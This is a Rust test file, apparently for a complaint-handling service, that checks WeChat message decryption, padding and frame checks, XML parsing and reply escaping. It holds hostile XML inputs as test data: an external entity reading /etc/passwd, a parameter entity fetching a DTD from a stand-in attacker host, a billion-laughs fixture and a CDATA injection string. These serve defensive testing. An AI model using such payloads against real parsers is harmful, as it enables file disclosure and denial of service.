        fixture::TEXT,
    );
    assert!(decrypt_err(&encrypt).contains("AppID mismatch"));
    // Another account's key yields garbage, refused somewhere on the way.
    let encrypt = independent::seal(
        tencent_java::KEY,
        APP_ID,
        b"abcdefghijklmnop",
        fixture::TEXT,
    );
    assert!(cipher().decrypt(&encrypt).is_err());
}

#[test]
fn bad_padding_is_refused() {
    let framed = independent::frame(b"abcdefghijklmnop", b"<xml/>", APP_ID);
    assert_eq!(framed.len(), 44);
    // Pad value 0.
    let mut p = framed.clone();
    p.extend(std::iter::repeat_n(0u8, 20));
    assert!(decrypt_err(&independent::seal_raw(AES_KEY, &p)).contains("padding"));
    // Pad value 33 (beyond the 32-byte block).
    let mut p = framed.clone();
    p.extend(std::iter::repeat_n(0u8, 19));
    p.push(33);
    assert!(decrypt_err(&independent::seal_raw(AES_KEY, &p)).contains("padding"));
    // Inconsistent pad bytes.
    let mut p = framed.clone();
    p.extend(std::iter::repeat_n(20u8, 19));
    p[50] = 19;
    p.push(20);
    assert!(decrypt_err(&independent::seal_raw(AES_KEY, &p)).contains("inconsistent"));
    // A pad that is valid but stops short of a 32-byte boundary (48 bytes
    // here, as a 16-byte PKCS#7 would pad) is accepted, as by Tencent's own
    // SDK: the pad bytes are checked, not the alignment.
    let mut p = framed;
    p.extend(std::iter::repeat_n(4u8, 4));
    assert_eq!(
        cipher()
            .decrypt(&independent::seal_raw(AES_KEY, &p))
            .unwrap(),
        "<xml/>"
    );
}

#[test]
fn broken_frames_are_refused() {
    // Length field beyond the data.
    let mut p = independent::frame(b"abcdefghijklmnop", b"<xml/>", APP_ID);
    p[16..20].copy_from_slice(&1000u32.to_be_bytes());
    let e = decrypt_err(&independent::seal_raw(AES_KEY, &independent::pkcs7_32(p)));
    assert!(e.contains("length field 1000"), "{e}");
    let mut p = independent::frame(b"abcdefghijklmnop", b"<xml/>", APP_ID);
    p[16..20].copy_from_slice(&u32::MAX.to_be_bytes());
    assert!(
        decrypt_err(&independent::seal_raw(AES_KEY, &independent::pkcs7_32(p)))
            .contains("length field")
    );
    // Shorter than random + length.
    let e = decrypt_err(&independent::seal_raw(
        AES_KEY,
        &independent::pkcs7_32(b"0123456789".to_vec()),
    ));
    assert!(e.contains("shorter"), "{e}");
    // Message not UTF-8 (GBK bytes of 投诉).
    let p = independent::frame(b"abcdefghijklmnop", &[0xcd, 0xb6, 0xcb, 0xdf], APP_ID);
    let e = decrypt_err(&independent::seal_raw(AES_KEY, &independent::pkcs7_32(p)));
    assert!(e.contains("UTF-8"), "{e}");
}

#[test]
fn truncated_or_mangled_ciphertext_is_refused() {
    let encrypt = independent::seal(AES_KEY, APP_ID, b"abcdefghijklmnop", fixture::TEXT);
    let raw = independent::b64_decode(&encrypt);
    // Not a multiple of 16.
    let e = decrypt_err(&independent::b64_encode(&raw[..raw.len() - 5]));
    assert!(e.contains("multiple of 16"), "{e}");
    // Whole blocks missing: the padding/frame no longer checks out.
    assert!(
        cipher()
            .decrypt(&independent::b64_encode(&raw[..raw.len() - 16]))
            .is_err()
    );
    assert!(
        cipher()
            .decrypt(&independent::b64_encode(&raw[..16]))
            .is_err()
    );
    // Empty.
    assert!(decrypt_err("").contains("multiple of 16"));
    // Not base64.
    assert!(decrypt_err("这不是密文").contains("base64"));
    assert!(decrypt_err("abc$def=").contains("base64"));
    assert!(decrypt_err(&encrypt[..encrypt.len() - 1]).contains("base64"));
}

#[test]
fn bad_encoding_aes_keys_are_refused() {
    for key in [
        "",
        "abcdefghijklmnopqrstuvwxyz0123456789ABCDEF",
        "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGH",
        "abcdefghijklmnopqrstuvwxyz0123456789ABCDEF!",
        "abcdefghijklmnopqrstuvwxyz0123456789ABCDEF=",
        "abcdefghijklmnopqrstuvwxyz0123456789ABCDEF中",
    ] {
        let err = Cipher::new(key, APP_ID).unwrap_err();
        assert_eq!(err.field, "wechat_aes_key", "{key:?}");
    }
    assert!(Cipher::new(AES_KEY, APP_ID).is_ok());
}

// ---------------------------------------------------------------------------
// Hostile and broken XML.

fn parse_err(xml: &str) -> tousu_channels::Invalid {
    wechat::parse_message(xml).unwrap_err()
}

#[test]
fn billion_laughs_is_refused() {
    let err = parse_err(fixture::BILLION_LAUGHS);
    assert_eq!(err.field, "body");
    assert!(err.message.contains("DOCTYPE"), "{err}");
    assert!(wechat::encrypted_envelope(fixture::BILLION_LAUGHS).is_err());
    // And when it arrives encrypted (the signature is only Tencent's word).
    let (envelope, sig) = push(fixture::BILLION_LAUGHS, b"abcdefghijklmnop", "1", "2");
    let encrypt = wechat::encrypted_envelope(&envelope).unwrap();
    assert!(wechat::verify_msg_signature(
        TOKEN, "1", "2", &encrypt, &sig
    ));
    let xml = cipher().decrypt(&encrypt).unwrap();
    assert!(parse_err(&xml).message.contains("DOCTYPE"));
}

#[test]
fn external_entities_are_refused() {
    let err = parse_err(fixture::XXE);
    assert_eq!(err.field, "body");
    assert!(err.message.contains("DOCTYPE"), "{err}");
    let envelope = "<!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\
                    <xml><ToUserName>gh_1</ToUserName><Encrypt>&xxe;</Encrypt></xml>";
    assert!(
        wechat::encrypted_envelope(envelope)
            .unwrap_err()
            .message
            .contains("DOCTYPE")
    );
    // Without the declaration the reference is simply undefined.
    let undeclared = fixture::TEXT.replace("<![CDATA[你好", "&xxe;<![CDATA[你好");
    assert!(
        parse_err(&undeclared)
            .message
            .contains("undefined entity &xxe;")
    );
    // Parameter entities and DOCTYPEs after the root are refused as well.
    let pe = "<!DOCTYPE xml [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><xml/>";
    assert!(parse_err(pe).message.contains("DOCTYPE"));
    let late = format!("{}<!DOCTYPE xml>", fixture::TEXT);
    assert!(wechat::parse_message(&late).is_err());
}

#[test]
fn malformed_xml_is_refused() {
    for xml in [
        "<xml><ToUserName>gh_1</ToUserName>",
        "<xml><ToUserName>gh_1</FromUserName></xml>",
        "<xml><Content><![CDATA[没有结束</Content></xml>",
        "<xml><Content>a & b</Content></xml>",
        "<xml></xml></xml>",
        "<xml",
        "just text",
        "<message><MsgType>text</MsgType></message>",
        "<xml/><xml/>",
    ] {
        let err = parse_err(xml);
        assert_eq!(err.field, "body", "{xml}: {err}");
    }
    let deep = format!("<xml>{}</xml>", "<a>".repeat(64) + &"</a>".repeat(64));
    assert!(parse_err(&deep).message.contains("nested deeper"));
}

#[test]
fn missing_required_elements_are_named() {
    for (element, xml) in [
        (
            "MsgType",
            fixture::TEXT.replace("<MsgType><![CDATA[text]]></MsgType>", ""),
        ),
        ("MsgType", fixture::TEXT.replace("<![CDATA[text]]>", "  ")),
        (
            "ToUserName",
            fixture::TEXT.replace("<ToUserName><![CDATA[gh_3ad8c2f1e0b7]]></ToUserName>", ""),
        ),
        (
            "FromUserName",
            fixture::TEXT.replace("<![CDATA[oX3Ze5Hq1f0TQ9m0sVYkR2l8aB4c]]>", ""),
        ),
        (
            "CreateTime",
            fixture::TEXT.replace("<CreateTime>1763790000</CreateTime>", ""),
        ),
    ] {
        let err = parse_err(&xml);
        assert_eq!(err.field, element);
        assert_eq!(err.message, "missing");
    }
}

#[test]
fn create_time_must_be_unix_seconds() {
    for bad in [
        "2025-11-22 10:00:00",
        "",
        "1763790000x",
        "-1763790000",
        "１７６３",
    ] {
        let xml = fixture::TEXT.replace("1763790000", bad);
        let err = parse_err(&xml);
        assert_eq!(err.field, "CreateTime", "{bad:?}");
    }
    let xml = fixture::TEXT.replace("1763790000", "99999999999999999999");
    assert_eq!(parse_err(&xml).message, "out of range");
    let xml = fixture::TEXT.replace("<CreateTime>1763790000", "<CreateTime>\n  1763790000  ");
    assert_eq!(
        wechat::parse_message(&xml).unwrap().create_time,
        1_763_790_000
    );
}

#[test]
fn envelope_without_encrypt_is_refused() {
    let err = wechat::encrypted_envelope(
        "<xml><ToUserName><![CDATA[gh_3ad8c2f1e0b7]]></ToUserName></xml>",
    )
    .unwrap_err();
    assert_eq!(err.field, "Encrypt");
    let err = wechat::encrypted_envelope(
        "<xml><ToUserName>gh_1</ToUserName><Encrypt><![CDATA[]]></Encrypt></xml>",
    )
    .unwrap_err();
    assert_eq!(err.field, "Encrypt");
    // A plaintext push has no envelope.
    assert_eq!(
        wechat::encrypted_envelope(fixture::TEXT).unwrap_err().field,
        "Encrypt"
    );
    // Nested deeper, <Encrypt> is not the envelope's.
    let nested = "<xml><Wrapper><Encrypt>abcd</Encrypt></Wrapper></xml>";
    assert!(wechat::encrypted_envelope(nested).is_err());
}

#[test]
fn unknown_elements_comments_and_entities_are_handled() {
    let xml = fixture::TEXT.replace(
        "<MsgId>",
        "<!-- 客服系统转发 --><AgentID>1000002</AgentID><Extra><Nested>1</Nested></Extra><MsgId>",
    );
    let m = wechat::parse_message(&format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{xml}"
    ))
    .unwrap();
    assert_eq!(m.msg_id, "24398765432101234");
    let escaped = fixture::TEXT.replace(
        "<![CDATA[你好，我11月20日",
        "价格 &lt;¥199&gt; &amp; 运费&#x3001;<![CDATA[你好，我11月20日",
    );
    let m = wechat::parse_message(&escaped).unwrap();
    assert!(
        m.content
            .starts_with("价格 <¥199> & 运费、你好，我11月20日"),
        "{}",
        m.content
    );
}

// ---------------------------------------------------------------------------
// Replies.

#[test]
fn cdata_terminators_in_replies_cannot_inject_elements() {
    let hostile = "好的]]></Content><MsgType><![CDATA[news]]></MsgType><Content><![CDATA[x";
    let reply = wechat::text_reply(OPENID, ACCOUNT, 1_763_790_010, hostile);
    // Unescaped, the reply would carry two MsgType elements and be refused.
    let m = wechat::parse_message(&reply).unwrap();
    assert_eq!(m.msg_type, "text");
    assert_eq!(m.content, hostile);
    let envelope =
        wechat::encrypted_reply(&cipher(), TOKEN, "1763790010", "n]]>once", &reply, [9; 16]);
    let encrypt = wechat::encrypted_envelope(&envelope).unwrap();
    // The nonce is signed as given; the envelope still holds one Nonce.
    assert!(wechat::verify_msg_signature(
        TOKEN,
        "1763790010",
        "n]]>once",
        &encrypt,
        &independent::element(&envelope, "MsgSignature")
    ));
    assert_eq!(envelope.matches("<Nonce>").count(), 1);
    assert_eq!(cipher().decrypt(&encrypt).unwrap(), reply);
    // A timestamp that is not a number is escaped, not injected.
    let odd = wechat::encrypted_reply(&cipher(), TOKEN, "1<x>", "1", &reply, [9; 16]);
    assert!(odd.contains("<TimeStamp>1&lt;x&gt;</TimeStamp>"));
}

#[test]
fn encrypted_reply_shape() {
    let reply = wechat::text_reply(OPENID, ACCOUNT, 1_763_790_011, "已收到");
    let envelope =
        wechat::encrypted_reply(&cipher(), TOKEN, "1763790011", "5201314", &reply, [1; 16]);
    let encrypt = cipher().encrypt(&reply, [1; 16]);
    let sig = independent::sha1_signature(&[TOKEN, "1763790011", "5201314", &encrypt]);
    assert_eq!(
        envelope,
        format!(
            "<xml><Encrypt><![CDATA[{encrypt}]]></Encrypt><MsgSignature><![CDATA[{sig}]]></MsgSignature>\
             <TimeStamp>1763790011</TimeStamp><Nonce><![CDATA[5201314]]></Nonce></xml>"
        )
    );
}
